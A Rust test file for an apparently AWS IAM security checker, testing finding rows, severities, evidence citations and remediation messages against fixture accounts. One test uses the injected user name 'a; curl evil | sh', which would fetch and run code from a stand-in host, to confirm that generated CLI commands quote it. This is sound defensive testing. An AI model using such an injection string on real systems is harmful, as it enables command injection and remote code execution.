//! What holds for every check, because the engine sees to it.

use std::{collections::BTreeSet, fs, path::Path};

use tutela_model::{Finding, Severity, Status, operation};

use crate::{
    CHECKS, find,
    fixture::{AccountFixture, UserFixture, account, role, user},
};

/// The rows that a check makes, as `status resource`, with the account's own ARN left out.
fn rows(id: &str, fixture: &AccountFixture) -> Vec<String> {
    let short = |resource: &str| resource.replace("arn:aws:iam::111122223333:", "");
    let findings = fixture.judged(find(id).unwrap());
    findings.iter().map(|row| format!("{} {}", row.status.word(), short(&row.resource))).collect()
}

fn with_key(name: &'static str) -> UserFixture {
    user().named(name).keys(&["active"])
}

#[test]
fn a_listing_that_may_be_short_is_one_unknown_row_on_the_account() {
    let short = account().user(user()).user(user().named("bob")).hide("users");
    assert_eq!(
        rows("user-without-mfa", &short),
        ["fail user/alice", "fail user/bob", "unknown root"]
    );
    let keys = account().user(with_key("alice")).hide("users");
    assert_eq!(
        rows("access-key-exists", &keys),
        ["fail user/alice#access-key/2026-11-14T12:00:00Z", "unknown root"]
    );
    let devices = account().hide("virtual-devices");
    assert_eq!(rows("virtual-mfa-device-unassigned", &devices), ["unknown root"]);
}

#[test]
fn an_unknown_row_is_as_bad_as_the_check_can_be() {
    let severities = |id: &str, fixture: AccountFixture| {
        let findings = fixture.judged(find(id).unwrap());
        findings.iter().map(|row| row.severity).collect::<Vec<_>>()
    };
    let hidden = account().user(user().hide("password"));
    assert_eq!(severities("user-console-without-mfa", hidden), [Severity::Critical]);
    let unlisted = account().hide("users");
    assert_eq!(severities("user-console-without-mfa", unlisted.clone()), [Severity::Critical]);
    assert_eq!(severities("user-single-mfa-device", unlisted.clone()), [Severity::Medium]);
    assert_eq!(severities("user-mfa-phishable", unlisted), [Severity::Medium]);
}

#[test]
fn doubt_shows_what_was_seen_and_says_why_a_row_is_worse_for_it() {
    let perhaps = || account().user(user().console().keys(&["active"]).perhaps_administrator());
    for id in ["administrator-without-mfa", "administrator-access-key"] {
        let rows = perhaps().judged(find(id).unwrap());
        assert_eq!(rows[0].status, Status::Unknown, "{id}");
        let fields: Vec<&str> = rows[0].evidence.iter().map(|cited| &*cited.field).collect();
        let has = |part: &str| fields.iter().any(|field| field.contains(part));
        assert!(has("PolicyDocument"), "{id} cites the statement: {fields:?}");
        assert!(has("mfa_active") || has("MFADevices") || has("access_key"), "{id}: {fields:?}");
    }
    let raised = perhaps().judged(find("user-console-without-mfa").unwrap());
    assert_eq!(raised[0].severity, Severity::Critical);
    let said = &raised[0].message;
    assert!(said.contains("; counted as an administrator's, because iam:Get"), "{said}");
    assert!(raised[0].evidence.iter().any(|cited| cited.field.contains("PolicyDocument")));
    let unseen = account().user(user().console().hide("grants"));
    let said = &unseen.judged(find("user-console-without-mfa").unwrap())[0].message;
    assert!(said.contains("was denied"), "{said}");
}

#[test]
fn no_check_names_a_severity_that_is_worse_than_its_worst() {
    let source = Path::new(env!("CARGO_MANIFEST_DIR")).join("src");
    for check in CHECKS {
        assert!(check.worst >= check.severity, "{}", check.id);
        let folder = source.join(check.area.word()).read_dir().unwrap();
        #[expect(clippy::disallowed_methods, reason = "the source is the test's subject")]
        let mut texts = folder.map(|entry| fs::read_to_string(entry.unwrap().path()).unwrap());
        let text = texts.find(|text| text.contains(&format!("id: \"{}\",", check.id))).unwrap();
        let named = text.split("Severity::").skip(1).filter_map(|rest| {
            Severity::ALL.into_iter().find(|severity| rest.starts_with(&format!("{severity:?}")))
        });
        let worst = named.max();
        assert_eq!(worst, Some(check.worst), "{}: `worst` is what some row can have", check.id);
    }
}

#[test]
fn users_whose_keys_are_hidden_are_one_unknown_row_together() {
    let hidden = |name| with_key(name).hide("keys");
    let fixture = account().user(with_key("alice")).user(hidden("bob")).user(hidden("carol"));
    assert_eq!(
        rows("access-key-exists", &fixture),
        ["fail user/alice#access-key/2026-11-14T12:00:00Z", "unknown root"]
    );
    let message = |fixture: &AccountFixture| {
        let findings = fixture.judged(find("access-key-exists").unwrap());
        findings.last().unwrap().message.clone()
    };
    assert_eq!(
        message(&fixture),
        "iam:GetCredentialReport was denied: access keys of 2 users are not known (bob, carol): \
         no policy allows it"
    );
    let many = fixture.user(hidden("dave")).user(hidden("erin")).hide("users");
    assert_eq!(rows("access-key-exists", &many).len(), 2, "one row also for a short listing");
    assert!(message(&many).contains("4 users are not known (bob, carol, dave, …)"));
    assert!(message(&account().user(hidden("bob"))).contains("of 1 user are not known (bob)"));
}

#[test]
fn an_empty_listing_cites_every_answer_that_says_so() {
    let live = user().named("bob").read_from("keys", &operation::LIST_ACCESS_KEYS);
    let fixture = account().user(user()).user(live);
    let findings = fixture.judged(find("access-key-old").unwrap());
    let [row] = findings.as_slice() else { panic!("{findings:#?}") };
    assert_eq!(row.status, Status::NotApplicable);
    let cited: Vec<String> = row
        .evidence
        .iter()
        .map(|cited| {
            format!("{} {}={}", cited.receipt.call.operation.name, cited.field, cited.value)
        })
        .collect();
    assert_eq!(
        cited,
        [
            "GetAccountAuthorizationDetails UserDetailList=2 users",
            "GetCredentialReport access_key_1_active, access_key_2_active=false, false",
            "ListAccessKeys AccessKeyMetadata=none",
        ]
    );
}

#[test]
fn a_credential_whose_owner_may_have_a_path_is_judged_and_leaves_a_gap() {
    let id = "service-specific-credential";
    let fixture = |user: UserFixture| account().user(user).credential("active");
    let row = "fail user/alice#service-specific-credential/ACCAEXAMPLE";
    assert_eq!(rows(id, &fixture(user())), [row]);
    assert_eq!(rows(id, &fixture(user()).hide("users")), [row], "the report knows the owner");
    assert_eq!(rows(id, &fixture(user().named("bob"))), [row], "made since the users were listed");
    assert_eq!(rows(id, &fixture(user().named("bob")).hide("users")), [row, "unknown root"]);
}

#[test]
fn every_role_is_a_row() {
    let two = account().role(role()).role(role().named("team/dev"));
    let id = "role-assumable-without-mfa";
    assert_eq!(rows(id, &two), ["pass role/ops", "pass role/team/dev"]);
    assert_eq!(rows(id, &account()), ["not-applicable root"]);
    assert_eq!(rows(id, &two.hide("users")), ["unknown root"]);
}

#[test]
fn what_stands_twice_is_one_row_and_the_worse_one() {
    let twice = account().user(user().devices(&["totp"])).user(user());
    assert_eq!(rows("user-without-mfa", &twice), ["fail user/alice"]);
    let doubt = account().user(user().devices(&["totp"])).user(user().hide("devices"));
    assert_eq!(rows("user-without-mfa", &doubt), ["unknown user/alice"]);
}

#[test]
fn a_verdict_by_an_old_report_says_how_old() {
    let message = |fixture: AccountFixture| {
        fixture.judged(find("access-key-exists").unwrap())[0].message.clone()
    };
    assert_eq!(
        message(account().user(with_key("alice")).judged_later(200)),
        "the key is active, and works until somebody deactivates it; nothing needs to take its \
         place: it was never used (credential report, 3 h 20 min old: a change since is not seen)"
    );
    let live = user().keys(&["active use-unsaid"]).read_from("keys", &operation::LIST_ACCESS_KEYS);
    assert_eq!(
        message(account().user(live).judged_later(200)),
        "the key is active, and works until somebody deactivates it; what can take its place is not \
         clear: nothing that was seen says what it was last used for"
    );
}

#[test]
fn a_severity_that_rests_on_a_standing_cites_the_grants() {
    let grants = |fixture: AccountFixture| {
        let rows = fixture.judged(find("user-single-mfa-device").unwrap());
        let calls = rows[0].evidence.iter().map(|cited| cited.receipt.call.operation);
        calls.filter(|call| **call == operation::GET_ACCOUNT_AUTHORIZATION_DETAILS).count()
    };
    let one = || user().devices(&["totp"]);
    assert!(grants(account().user(one().administrator())) > 0);
    assert_eq!(
        grants(account().user(one())),
        0,
        "an ordinary user's severity rests on nothing else"
    );
}

#[test]
fn hostile_names_are_quoted_in_commands() {
    let hostile = account().user(with_key("a; curl evil | sh"));
    for check in CHECKS {
        for row in hostile.judged(check) {
            let bare = row.remediation().cli.replace("'a; curl evil | sh'", "");
            assert!(!bare.contains("curl evil"), "{}: {}", check.id, row.remediation().cli);
        }
    }
}

/// Accounts that between them make every check say every word that it knows.
fn accounts() -> Vec<AccountFixture> {
    let busy = || user().console_used_days_ago(50).keys(&["active used-50 made-100", "active"]);
    vec![
        account(),
        account().root("none").password_policy(None),
        account()
            .root("mfa password key certificate virtual-2 used-3")
            .password_policy(Some((8, 0))),
        account().user(busy()).user(busy().named("bob").administrator()),
        account().user(busy().devices(&["passkey"])).credential("active expires-3"),
        account()
            .user(user().administrator().devices(&["virtual", "fido"]))
            .virtual_device("x", false),
        account().user(user().perhaps_administrator().keys(&["inactive"]).devices(&["totp"])),
        account().user(user().named("bob").console().keys(&["active made-with-user use-unsaid"])),
        with_roles(account().user(busy().assumes_roles()).user(busy().named("bob").enforced())),
        account().organization("management").scp("RequireMfa", REQUIRE_MFA).user(busy()),
        account().organization("management").scp("RequireMfa", REQUIRE_MFA).user(busy().enforced()),
        account().organization("member").under(&[&[REQUIRE_MFA]]).user(busy()),
        with_roles(account().user(user().assumes_roles().guarded().keys(&["active"]))),
        account()
            .regions(&[
                "us-east-1: config guardduty",
                "eu-west-1: config guardduty analyzer rule-root rule-user",
            ])
            .trail("multi logging writes validated mfa-delete"),
        account().without_contact("security").regions(&["us-east-1: config", "eu-west-1"]),
        with_gates(account()),
        organization(&[REQUIRE_MFA, DENY_ROOT]).root_features(&["RootSessions"]),
        organization(&[]).root_features(&[]).center("administrator session-5"),
        account().organization("member").root("none"),
    ]
}

/// A management account with a member under these SCPs.
fn organization(scps: &[&'static str]) -> AccountFixture {
    account().organization("management").member("444455556666", "ACTIVE", scps)
}

const DENY_ROOT: &str = r#"{"Statement": [{"Effect": "Deny", "Action": "*", "Resource": "*", "Condition": {"StringLike": {"aws:PrincipalArn": "arn:aws:iam::*:root"}}}]}"#;

/// The account, and roles for who comes from elsewhere.
fn with_gates(account: AccountFixture) -> AccountFixture {
    account
        .provider("saml-provider/okta")
        .provider("oidc-provider/gitlab.com")
        .role(role().named("okta").trusts("saml"))
        .role(role().named("deploy").trusts_token("gitlab.com", "{}"))
        .role(role().named("app").trusts_token("cognito-identity.amazonaws.com", "{}"))
        .role(role().named("backup").trusts("anywhere"))
}

const REQUIRE_MFA: &str = r#"{"Statement": [{"Effect": "Deny", "Action": "*", "Resource": "*", "Condition": {"BoolIfExists": {"aws:MultiFactorAuthPresent": "false"}}}]}"#;

/// The account, and roles of every kind.
fn with_roles(account: AccountFixture) -> AccountFixture {
    let red = r#"{"StringEquals": {"aws:PrincipalTag/team": "red"}}"#;
    account
        .role(role())
        .role(role().named("admin").administrator())
        .role(role().named("mfa").trusts_if("account", "Bool true"))
        .role(role().named("lax").trusts_if("account", "BoolIfExists true"))
        .role(role().named("red").trusts_if("account", red))
        .role(role().named("service").trusts_if("ec2", "Bool true").holds_unseen())
        .role(role().named("vendor").trusts("other-account"))
}

const ACCOUNT_FACTS: &str = "root users report virtual-devices password-policy service-credentials root-use \
    organization saml-providers oidc-providers scps regions contacts phone state \
    public-access recommended plan trails tree unit targets levels root-features \
    permission-sets center-regions buckets";
const USER_FACTS: [&str; 6] = ["password", "devices", "keys", "grants", "created", "tags"];

#[test]
fn no_two_rows_have_one_key() {
    for fixture in accounts() {
        let findings: Vec<Finding> =
            CHECKS.iter().flat_map(|check| fixture.judged(check)).collect();
        let keys: BTreeSet<_> = findings.iter().map(Finding::key).collect();
        assert_eq!(keys.len(), findings.len());
    }
}

#[test]
fn where_nothing_was_seen_nothing_is_known() {
    let hide = |fixture: AccountFixture, fact: &'static str| fixture.hide(fact);
    let blind = ACCOUNT_FACTS.split_whitespace().fold(account().root("mfa virtual-2 used-3"), hide);
    for check in CHECKS.iter().filter(|check| !check.judge.is_of_caller()) {
        let statuses: Vec<Status> = blind.judged(check).iter().map(|row| row.status).collect();
        assert_eq!(statuses, [Status::Unknown], "{}", check.id);
    }
}

#[test]
fn a_fact_that_is_taken_away_settles_nothing() {
    let open = |row: &Finding| matches!(row.status, Status::Fail | Status::Unknown);
    let (mut compared, mut changed) = (0, 0);
    for fixture in accounts() {
        let whole: Vec<Vec<Finding>> = CHECKS.iter().map(|check| fixture.judged(check)).collect();
        let with_less = with_one_fact_less(&fixture);
        let pairs = with_less.iter().flat_map(|less| {
            CHECKS.iter().zip(&whole).map(move |(check, before)| (check, before, less))
        });
        for (check, before, less) in pairs {
            let after = less.judged(check);
            let doubted = after.iter().any(|row| row.status == Status::Unknown);
            for row in before {
                compared += 1;
                let same = after.iter().find(|other| other.resource == row.resource);
                changed += usize::from(same.is_none_or(|other| other.status != row.status));
                let kept = same.map_or(doubted, |other| open(other) || !open(row));
                assert!(kept, "{}: {row:#?} became {same:#?}", check.id);
            }
        }
    }
    assert!(changed > 100 && compared > changed, "{changed} of {compared} rows changed");
}

/// The account with one fact hidden, once for each fact.
fn with_one_fact_less(fixture: &AccountFixture) -> Vec<AccountFixture> {
    let account_facts = ACCOUNT_FACTS.split_whitespace().map(|fact| fixture.clone().hide(fact));
    let user_facts = USER_FACTS.iter().map(|fact| fixture.clone().hide_of_users(fact));
    account_facts.chain(user_facts).collect()
}

#[test]
fn a_key_is_called_by_what_it_keeps() {
    let check = |keys: &[&str], expected: &[&str]| {
        let rows = rows("access-key-exists", &account().user(user().keys(keys)));
        let names: Vec<&str> = rows.iter().filter_map(|row| row.split('#').nth(1)).collect();
        assert_eq!(names, expected, "{keys:?}");
    };
    check(&["active made-10"], &["access-key/2026-11-14T12:00:00Z"]);
    check(&["active made-unsaid"], &["access-key/1"]);
    let twins = ["access-key/2026-11-14T12:00:00Z-1", "access-key/2026-11-14T12:00:00Z-2"];
    check(&["active made-10", "active made-10"], &twins);
    // A live listing tells parts of a second, and a place in the report only where it is sure.
    check(&["active made-10-and-a-bit"], &["access-key/2026-11-14T12:00:00Z"]);
    for keys in [
        ["active made-10-and-a-bit", "active made-10"],
        ["active made-10 unplaced", "active made-10-and-a-bit unplaced"],
        ["active made-10 unplaced", "active made-10"],
    ] {
        check(&keys, &twins);
    }
}

#[test]
fn nothing_is_asked_of_an_account_that_is_shut() {
    for (state, expected) in [
        ("SUSPENDED", true),
        ("CLOSED", true),
        ("ACTIVE", false),
        ("PENDING_CLOSURE", false),
        ("PENDING_ACTIVATION", false),
        ("A_NEW_STATE", false),
    ] {
        let fixture = account().root("none").hide("root").member("111122223333", state, &[]);
        let rows = fixture.judged(crate::find("root-mfa-missing").unwrap());
        let [row] = rows.as_slice() else { panic!("{state}: {rows:#?}") };
        let is_shut = row.status == Status::NotApplicable;
        assert_eq!(is_shut, expected, "{state}: {}", row.message);
        let cited = format!("Accounts[Id=111122223333].State = {state}");
        let said = row.evidence.iter().map(|it| format!("{} = {}", it.field, it.value));
        assert_eq!(said.collect::<Vec<_>>().contains(&cited), expected, "{state}");
    }
}
